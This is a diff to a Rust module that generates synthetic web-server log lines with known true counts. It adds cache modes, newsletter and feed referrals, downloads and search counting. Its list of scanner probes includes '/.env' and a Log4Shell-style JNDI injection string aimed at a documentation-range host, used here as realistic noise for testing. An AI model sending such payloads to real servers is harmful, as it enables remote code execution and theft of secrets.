@@ -1,9 +1,11 @@
 //! Log lines for a site, made up, with what is true about them: for demonstrations, tests and measurements.
 //!
 //! Addresses are from ranges that nobody has (RFC 5737, RFC 2544, RFC 3849). Visitors are people with a browser each; some share
-//! address and browser, as behind an office's proxy. Browsers ask for the style sheet as our header files let them. There are robots that
+//! address and browser, as behind an office's proxy. Browsers ask for the style sheet as our header files let them, or as another
+//! host does ([`Keeping`]). Visits begin by links, letters and feeds, and some people take a file with them. There are robots that
 //! say what they are, robots that call themselves browsers, searches for holes, and lines that are broken.
 
+use std::collections::{BTreeMap, BTreeSet};
 use std::fmt::Write;
 use std::io::{self, Cursor, Read};
 
@@ -18,6 +20,16 @@ use super::pages::Pages;
 pub struct Truth {
     /// Of people.
     pub people: Counts,
+    /// Of people as far as address and browser tell them apart: of two who share both there is one.
+    pub told_apart: Counts,
+    /// Visits that began with the link of a letter, and with that of a feed.
+    pub by_letter: u64,
+    /// See `by_letter`.
+    pub by_feed: u64,
+    /// Files that people took.
+    pub downloads: u64,
+    /// What people searched for, each search once a day for each who can be told apart.
+    pub searches: u64,
     /// All lines.
     pub lines: u64,
     /// Those that are no requests.
@@ -68,11 +80,12 @@ const ROBOTS: [&str; 5] = [
     "curl/8.5.0",
 ];
 
-const REFERRERS: [&str; 5] = [
+const REFERRERS: [&str; 6] = [
     "-",
     "https://www.google.com/",
     "https://www.bing.com/",
     "https://www.socialstyrelsen.se/",
+    "https://intranat.kommun.se/",
     "https://forum.example/",
 ];
 
@@ -82,14 +95,36 @@ const SEARCHES: [&str; 8] =
 const HOLES: [&str; 4] = ["/wp-login.php", "/.env", "/phpmyadmin/", "/?x=${jndi:ldap://203.0.113.9/a}"];
 
 const DAY: i64 = 86_400;
-/// As long as our header files let a browser keep the style sheet.
-const KEPT: i64 = 12 * 3600;
+
+/// What the host says of the style sheet.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Keeping {
+    /// A browser keeps it for so many seconds and asks for nothing while it does.
+    For(i64),
+    /// A browser keeps it and asks each time whether it is still the same.
+    Asked,
+}
+
+impl Keeping {
+    /// As our header files have it: for twelve hours.
+    pub const OURS: Keeping = Keeping::For(12 * 3600);
+}
+
+/// By what link a page was opened, where its address tells.
+#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Link {
+    Other,
+    Letter,
+    Feed,
+}
 
 struct Person {
     address: String,
     browser: &'static str,
     /// When the style sheet was fetched.
     styled: i64,
+    /// The number of the first who has this address and browser.
+    told: usize,
 }
 
 /// Makes the lines of one day after the other.
@@ -99,6 +134,11 @@ pub struct Demo<'a> {
     read: Vec<u32>,
     numbers: Numbers,
     people: Vec<Person>,
+    keeping: Keeping,
+    /// The files that lie below each page's address, by its number.
+    files: BTreeMap<u32, Vec<String>>,
+    /// Who has searched for what today.
+    asked: BTreeSet<(usize, usize)>,
     day: Date,
     visits_a_day: u64,
     /// Of the lines that have been made so far.
@@ -109,7 +149,19 @@ impl<'a> Demo<'a> {
     /// From a day on, with about so many visits on a working day.
     pub fn new(pages: &'a Pages, first: Date, visits_a_day: u64, seed: u64) -> Demo<'a> {
         let mut numbers = Numbers(seed);
-        let kinds = ["start", "example", "fia", "page", "search", "examples", "municipality", "term", "county"];
+        let kinds = [
+            "start",
+            "search",
+            "example",
+            "fia",
+            "page",
+            "examples",
+            "experience",
+            "data",
+            "municipality",
+            "term",
+            "county",
+        ];
         let of_kind = |kind: &&str| -> Vec<u32> {
             let all = pages.all.iter().zip(0..).filter(|(page, _)| page.kind == *kind);
             all.map(|(_, number)| number).collect()
@@ -120,36 +172,70 @@ impl<'a> Demo<'a> {
             // One in fifty shares the address and the browser of the one before.
             let own = if number % 50 == 49 { number - 1 } else { number };
             let browser = BROWSERS[(own % BROWSERS.len() as u64) as usize];
-            Person { address: address(own), browser, styled: i64::MIN / 2 }
+            Person { address: address(own), browser, styled: i64::MIN / 2, told: own as usize }
         });
         let people = people.collect();
         let _ = numbers.next();
-        Demo { pages, read, numbers, people, day: first, visits_a_day, truth: Truth::default() }
+        let (keeping, files, asked, truth) = (Keeping::OURS, BTreeMap::new(), BTreeSet::new(), Truth::default());
+        Demo { pages, read, numbers, people, keeping, files, asked, day: first, visits_a_day, truth }
+    }
+
+    /// The same from a host that says this of the style sheet. Half of the people have been there before, and may have it still.
+    #[must_use]
+    pub fn keeping(mut self, keeping: Keeping) -> Demo<'a> {
+        let begin = midnight(self.day);
+        if let Keeping::For(seconds) = keeping {
+            let numbers = &mut self.numbers;
+            let known = self.people.iter_mut().filter(|_| numbers.is_one_in(2)).collect::<Vec<_>>();
+            known.into_iter().for_each(|person| person.styled = begin - self.numbers.below(seconds as u64 + 1) as i64);
+        }
+        self.keeping = keeping;
+        self
+    }
+
+    /// The same, with files that people take, by their addresses within the site. The link to a file is on the page whose address
+    /// its own begins with.
+    #[must_use]
+    pub fn with_files(mut self, files: &[String]) -> Demo<'a> {
+        for file in files {
+            let above = file.match_indices('/').rev().find_map(|(at, _)| self.pages.find(&file[..=at]));
+            // From the front page there is a link to nothing.
+            if let Some(page) = above.filter(|page| self.pages.all[*page as usize].address != "/") {
+                self.files.entry(page).or_default().push(file.clone());
+            }
+        }
+        self
     }
 
     /// The lines of the next day, in order of time.
     pub fn day(&mut self) -> String {
-        let zone = TimeZone::get("Europe/Stockholm").unwrap_or(TimeZone::UTC);
-        let start = self.day.to_zoned(zone.clone()).map_or(0, |moment| moment.timestamp().as_second());
+        let zone = zone();
+        let start = midnight(self.day);
+        // A day is an hour shorter or longer when clocks change.
+        let end = self.day.tomorrow().map_or(start + DAY, midnight);
         let offset = zone.to_offset(jiff::Timestamp::from_second(start + DAY / 2).unwrap_or_default()).seconds();
         let is_weekend = self.day.weekday().to_monday_zero_offset() > 4;
         let visits = if is_weekend { self.visits_a_day / 4 } else { self.visits_a_day };
         let mut lines: Vec<(i64, String)> = Vec::new();
-        let mut seen: std::collections::BTreeMap<usize, Vec<i64>> = std::collections::BTreeMap::new();
+        let mut seen: BTreeMap<usize, Vec<(i64, Link)>> = BTreeMap::new();
         for _ in 0..visits {
             let person = self.numbers.skewed(self.people.len());
             // Mostly office hours, sometimes late.
             let hour = if self.numbers.is_one_in(8) { 18 + self.numbers.below(6) } else { 7 + self.numbers.below(10) };
             let begin = start + hour as i64 * 3600 + self.numbers.below(3600) as i64;
-            self.visit(person, begin, start + DAY, offset, &mut lines, seen.entry(person).or_default());
+            self.visit(person, begin, end, offset, &mut lines, seen.entry(person).or_default());
         }
-        for times in seen.values_mut() {
-            times.sort_unstable();
-            let pauses = times.windows(2).filter(|pair| pair[1] - pair[0] > i64::from(super::figures::PAUSE)).count();
-            self.truth.people.page_views += times.len() as u64;
-            self.truth.people.visits += pauses as u64 + 1;
-            self.truth.people.visitor_days += 1;
+        let mut told: BTreeMap<usize, Vec<(i64, Link)>> = BTreeMap::new();
+        // A late hour of the night that is an hour shorter is tomorrow's: nobody came then.
+        seen.retain(|_, views| !views.is_empty());
+        for (person, views) in seen {
+            told.entry(self.people[person].told).or_default().extend(&views);
+            let first = self.truth.people.count(views);
+            self.truth.by_letter += first.iter().filter(|link| **link == Link::Letter).count() as u64;
+            self.truth.by_feed += first.iter().filter(|link| **link == Link::Feed).count() as u64;
         }
+        self.truth.searches += std::mem::take(&mut self.asked).len() as u64;
+        told.into_values().for_each(|views| drop(self.truth.told_apart.count(views)));
         self.others(visits, start, offset, &mut lines);
         lines.sort();
         self.truth.lines += lines.len() as u64;
@@ -168,10 +254,14 @@ impl<'a> Demo<'a> {
         end: i64,
         offset: i32,
         lines: &mut Vec<(i64, String)>,
-        times: &mut Vec<i64>,
+        views: &mut Vec<(i64, Link)>,
     ) {
         let mut time = begin;
-        let mut referrer = REFERRERS[self.numbers.skewed(REFERRERS.len())].to_owned();
+        let mut link = self.link();
+        let mut referrer = match link {
+            Link::Other => REFERRERS[self.numbers.skewed(REFERRERS.len())].to_owned(),
+            Link::Letter | Link::Feed => "-".to_owned(),
+        };
         for _ in 0..=self.numbers.skewed(9) {
             if time >= end || self.read.is_empty() {
                 break;
@@ -179,18 +269,53 @@ impl<'a> Demo<'a> {
             let page = self.read[self.numbers.skewed(self.read.len())];
             let mut target = format!("{}{}", self.pages.base, self.pages.all[page as usize].address);
             if self.pages.is_search(page) {
-                let _ = write!(target, "?q={}", SEARCHES[self.numbers.skewed(SEARCHES.len())]);
+                // Nobody sends a link to a search.
+                link = Link::Other;
+                let search = self.numbers.skewed(SEARCHES.len());
+                self.asked.insert((self.people[person].told, search));
+                let _ = write!(target, "?q={}", SEARCHES[search]);
             }
-            let own = &mut self.people[person];
-            lines.push((time, line(&own.address, time, offset, "GET", &target, 200, &referrer, own.browser)));
-            times.push(time);
-            if time - own.styled >= KEPT {
-                own.styled = time;
-                let style = format!("{}/_a/style.0000000000.css", self.pages.base);
-                lines.push((time, line(&own.address, time, offset, "GET", &style, 200, &referrer, own.browser)));
-            }
+            target.push_str(match link {
+                Link::Other => "",
+                Link::Letter => "?fran=brev",
+                Link::Feed => "?fran=feed",
+            });
+            let Person { address, browser, styled, .. } = &mut self.people[person];
+            let mut get = |time, target: &str, status, referrer: &str| {
+                lines.push((time, line(address, time, offset, "GET", target, status, referrer, browser)));
+            };
+            get(time, &target, 200, &referrer);
+            views.push((time, std::mem::replace(&mut link, Link::Other)));
+            let style = match self.keeping {
+                Keeping::For(seconds) if time - *styled >= seconds => Some(200),
+                Keeping::For(_) => None,
+                Keeping::Asked => Some(if *styled < 0 { 200 } else { 304 }),
+            };
             referrer = format!("https://{}{}", self.pages.host, target);
+            if let Some(status) = style {
+                *styled = time;
+                get(time, &format!("{}/_a/style.0000000000.css", self.pages.base), status, &referrer);
+            }
+            if let Some(files) = self.files.get(&page)
+                && time + 9 < end
+                && self.numbers.is_one_in(3)
+            {
+                let file = &files[self.numbers.skewed(files.len())];
+                get(time + 4, &format!("{}{file}", self.pages.base), 200, &referrer);
+                self.truth.downloads += 1;
+            }
             time += 5 + self.numbers.below(400) as i64;
+        }
+    }
+
+    /// Letters are sent four times a year, and read in the two weeks after; some people follow the feeds.
+    fn link(&mut self) -> Link {
+        let is_sent = self.day.month() % 3 == 0 && self.day.day() >= 15;
+        let letters = if is_sent { 6 } else { 80 };
+        match (self.numbers.is_one_in(letters), self.numbers.is_one_in(30)) {
+            (true, _) => Link::Letter,
+            (false, true) => Link::Feed,
+            (false, false) => Link::Other,
         }
     }
 
@@ -256,6 +381,26 @@ impl Read for DemoLog<'_> {
             }
         }
     }
+}
+
+impl Counts {
+    /// Adds a visitor's page views of one day, and gives the link that each visit began with.
+    fn count(&mut self, mut views: Vec<(i64, Link)>) -> Vec<Link> {
+        views.sort_unstable();
+        let visits = views.chunk_by(|a, b| b.0 - a.0 <= i64::from(super::figures::PAUSE));
+        let first: Vec<Link> = visits.map(|visit| visit[0].1).collect();
+        self.add(Counts { page_views: views.len() as u64, visits: first.len() as u64, visitor_days: 1 });
+        first
+    }
+}
+
+fn zone() -> TimeZone {
+    TimeZone::get("Europe/Stockholm").unwrap_or(TimeZone::UTC)
+}
+
+/// When a day begins, in seconds since 1970.
+fn midnight(day: Date) -> i64 {
+    day.to_zoned(zone()).map_or(0, |moment| moment.timestamp().as_second())
 }
 
 /// The address of a person: one in four has IPv6.
